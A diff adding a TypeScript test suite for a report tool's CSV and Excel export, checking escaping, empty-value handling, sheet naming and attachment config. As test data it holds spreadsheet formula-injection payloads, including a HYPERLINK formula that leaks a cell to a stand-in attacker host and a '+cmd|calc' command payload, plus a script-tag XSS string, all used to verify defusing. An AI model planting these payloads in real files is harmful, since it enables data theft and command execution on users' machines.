@@ -1,0 +1,197 @@
+// The report's tables as spreadsheets (docs/reports.md, "Spreadsheets"): CSV read back by DuckDB's
+// CSV reader, the workbook read back by exceljs (the library that writes it); hostile strings from
+// the API defused; a missing figure an empty cell with its reason, never 0; same data, same bytes.
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { DuckDBInstance } from '@duckdb/node-api';
+import ExcelJS from 'exceljs';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { ConfigError, readConfig } from '../src/config/read-config.js';
+import { attachedFormats } from '../src/delivery/scheduled/send.js';
+import { writtenFormats } from '../src/delivery/scheduled/steps.js';
+import { defaultReportSettings } from '../src/report/settings.js';
+import { DEFAULT_STYLE } from '../src/report/style.js';
+import { defused, tableCsv } from '../src/report/tables/csv.js';
+import { reportTables, TABLE_NAMES } from '../src/report/tables/report-tables.js';
+import { sheetNames } from '../src/report/tables/sheet-names.js';
+import { tablesXlsx } from '../src/report/tables/xlsx.js';
+import * as h from './helpers/harness.js';
+import { report } from './helpers/report-workspace.js';
+
+const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+const SCRIPT = '<script>alert(1)</script>';
+const DE = { ...DEFAULT_STYLE, locale: 'de-DE' };
+const FACTS = { day: '2026-10-08', author: 'Agentur', title: 'Client One: 5.-8. Oktober 2026' };
+
+afterEach(() => {
+  vi.useRealTimers();
+});
+
+async function readWorkbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
+  return wb;
+}
+
+describe('report tables', () => {
+  const r = report({ open: [HOSTILE, SCRIPT], losses: ['+cmd|calc', '@SUM(1)', 'Acme'] });
+
+  it('has every section the page shows, headers in the locale, no soft hyphen', () => {
+    const tables = reportTables(r, DE);
+    expect(tables.map((t) => t.name)).toEqual([...TABLE_NAMES]);
+    const trend = tables.find((t) => t.name === 'trend')!;
+    expect(trend.title).toBe('Verlauf');
+    expect(trend.columns.map((c) => c.header)).toEqual([
+      'Tag',
+      'Gesamtwert',
+      'Share of Voice',
+      'Vergleichstag',
+      'Gesamtwert zuvor',
+      'Share of Voice zuvor',
+    ]);
+    const shown = reportTables(r, { ...DE, sections: ['cover', 'kpis'] });
+    expect(shown.map((t) => t.name)).toEqual(['report', 'kpis']);
+  });
+
+  it('a missing figure is an empty cell with its reason, never 0', () => {
+    const gap = report({ money: null });
+    const kpis = reportTables(gap, DE).find((t) => t.name === 'kpis')!;
+    const money = kpis.rows.find((row) => String(row[0]).startsWith('Sichtbarkeit bei Kauf'))!;
+    expect(money[1]).toBeNull();
+    expect(money[3]).toBeNull();
+    expect(money[4]).toBe('Kein Wert für diesen Zeitraum');
+  });
+
+  it('CSV: RFC 4180 with a BOM, formula starts defused, read back by DuckDB', async () => {
+    const tables = reportTables(r, DE);
+    const dir = h.tempDir();
+    const open = tables.find((t) => t.name === 'recommendations_open')!;
+    const text = tableCsv(open);
+    expect(text.startsWith('\uFEFFPriorität,Empfehlung,Kategorie,Wirkung\r\n')).toBe(true);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+    expect(text).toContain(SCRIPT);
+    expect(defused('-3.2')).toBe("'-3.2");
+    expect(defused('\tx')).toBe("'\tx");
+    expect(defused('Acme')).toBe('Acme');
+    const losses = tables.find((t) => t.name === 'losses')!;
+    const trend = tables.find((t) => t.name === 'trend')!;
+    for (const t of [open, losses, trend]) writeFileSync(join(dir, `${t.name}.csv`), tableCsv(t));
+    const db = await DuckDBInstance.create(':memory:');
+    const c = await db.connect();
+    try {
+      const rows = async (sql: string) => (await c.runAndReadAll(sql)).getRowObjectsJson();
+      const recs = await rows(
+        `SELECT * FROM read_csv('${join(dir, 'recommendations_open.csv')}', header = true)`,
+      );
+      expect(recs.map((x) => x.Empfehlung)).toEqual([`'${HOSTILE}`, SCRIPT]);
+      const lost = await rows(`SELECT Gewinner FROM read_csv('${join(dir, 'losses.csv')}', header = true)`);
+      expect(lost.map((x) => x.Gewinner).sort()).toEqual(["'+cmd|calc", "'@SUM(1)", 'Acme'].sort());
+      // Numbers machine-readable whatever the locale: a dot, unrounded, and typed as numbers.
+      const days = await rows(
+        `SELECT Tag, "Gesamtwert", typeof("Gesamtwert") AS t FROM read_csv('${join(dir, 'trend.csv')}', header = true) ORDER BY Tag`,
+      );
+      expect(days.map((x) => [x.Tag, x.Gesamtwert, x.t])).toEqual([
+        ['2026-10-05', 52, 'DOUBLE'],
+        ['2026-10-06', 50, 'DOUBLE'],
+        ['2026-10-07', 49, 'DOUBLE'],
+        ['2026-10-08', 47.5, 'DOUBLE'],
+      ]);
+    } finally {
+      c.closeSync();
+      db.closeSync();
+    }
+  });
+
+  it('XLSX: a sheet per table, numbers and dates typed, text never a formula, same bytes at any time', async () => {
+    const tables = reportTables(r, DE);
+    vi.useFakeTimers({ toFake: ['Date'] });
+    vi.setSystemTime(new Date('2027-01-01T10:00:00Z'));
+    const one = await tablesXlsx(tables, FACTS);
+    vi.setSystemTime(new Date('2031-06-15T23:59:58Z'));
+    const two = await tablesXlsx(tables, FACTS);
+    vi.useRealTimers();
+    expect(two.equals(one)).toBe(true);
+    const wb = await readWorkbook(one);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(sheetNames(tables.map((t) => t.title)));
+    expect(wb.created?.toISOString()).toBe('2026-10-08T00:00:00.000Z');
+    const trend = wb.getWorksheet('Verlauf')!;
+    expect(trend.getRow(1).values).toEqual([
+      undefined,
+      'Tag',
+      'Gesamtwert',
+      'Share of Voice',
+      'Vergleichstag',
+      'Gesamtwert zuvor',
+      'Share of Voice zuvor',
+    ]);
+    const day = trend.getCell('A2');
+    expect(day.type).toBe(ExcelJS.ValueType.Date);
+    expect((day.value as Date).toISOString()).toBe('2026-10-05T00:00:00.000Z');
+    const score = trend.getCell('B5');
+    expect([score.type, score.value, score.numFmt]).toEqual([ExcelJS.ValueType.Number, 47.5, '0.0']);
+    // Share of voice 30 (percent) is the fraction 0.3 shown as a percentage.
+    const share = trend.getCell('C2');
+    expect([share.value, share.numFmt]).toEqual([0.3, '0.0%']);
+    const recs = wb.getWorksheet('Offen, nach Priorität')!;
+    const hostile = recs.getCell('B2');
+    expect([hostile.type, hostile.value]).toEqual([ExcelJS.ValueType.String, HOSTILE]);
+    expect(recs.getCell('B3').value).toBe(SCRIPT);
+  });
+
+  it('XLSX: a missing figure is an empty cell, and a control character does not break the file', async () => {
+    const gap = report({ money: null, open: ['bell\u0007 title'] });
+    const wb = await readWorkbook(await tablesXlsx(reportTables(gap, DE), FACTS));
+    const kpis = wb.getWorksheet('Kennzahlen')!;
+    const row = kpis
+      .getRows(2, 8)!
+      .find((x) => String(x.getCell(1).value).startsWith('Sichtbarkeit bei Kauf'))!;
+    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Null);
+    expect(row.getCell(5).value).toBe('Kein Wert für diesen Zeitraum');
+    expect(wb.getWorksheet('Offen, nach Priorität')!.getCell('B2').value).toBe('bell title');
+  });
+
+  it('sheet names: cut to 31 characters, no forbidden character, unique', () => {
+    expect(sheetNames(['A/B: c?', 'x'.repeat(40), 'Engines', 'engines', "'quoted'"])).toEqual([
+      'A B c',
+      'x'.repeat(31),
+      'Engines',
+      'engines (2)',
+      'quoted',
+    ]);
+  });
+
+  it('reports.attach: the listed files the version has, else the one file mailed before', () => {
+    expect(attachedFormats(['html', 'json', 'pdf', 'xlsx'], ['pdf', 'xlsx'])).toEqual(['pdf', 'xlsx']);
+    expect(attachedFormats(['html', 'json', 'xlsx'], ['pdf', 'xlsx'])).toEqual(['xlsx']);
+    expect(attachedFormats(['html', 'json', 'pdf'], undefined)).toEqual(['pdf']);
+    expect(attachedFormats(['html', 'json'], ['xlsx'])).toEqual(['html']);
+    // A scheduled make writes what the mail attaches, whatever formats says.
+    expect(writtenFormats({ ...defaultReportSettings(), formats: ['html'], attach: ['xlsx'] })).toEqual([
+      'html',
+      'xlsx',
+      'json',
+    ]);
+  });
+
+  it('a bad reports.attach is a ConfigError (exit 78) naming the key', () => {
+    const dir = h.tempDir();
+    const file = join(dir, 'visync.yaml');
+    const bad = (attach: string) => {
+      writeFileSync(
+        file,
+        `accounts:\n  - name: acme\n    apiKey: k-acme-0123456789\n    baseUrl: https://visibility.example/api/v1\nsinks:\n  fs: {}\nreports:\n  attach: ${attach}\n`,
+      );
+      try {
+        readConfig(file, {}, () => {});
+      } catch (err) {
+        expect(err).toBeInstanceOf(ConfigError);
+        return (err as ConfigError).issues.map((i) => `${i.path}: ${i.message}`);
+      }
+      throw new Error('expected a ConfigError');
+    };
+    expect(bad('[pdf, docx]')).toEqual(['reports.attach.1: expected one of pdf, html, json, xlsx']);
+    expect(bad('[csv]')).toEqual(['reports.attach.0: expected one of pdf, html, json, xlsx']);
+    expect(bad('[xlsx, xlsx]')).toEqual(['reports.attach: attachments must be unique']);
+    expect(bad('xlsx')).toEqual(['reports.attach: expected a list of attachments: pdf, html, json, xlsx']);
+  });
+});
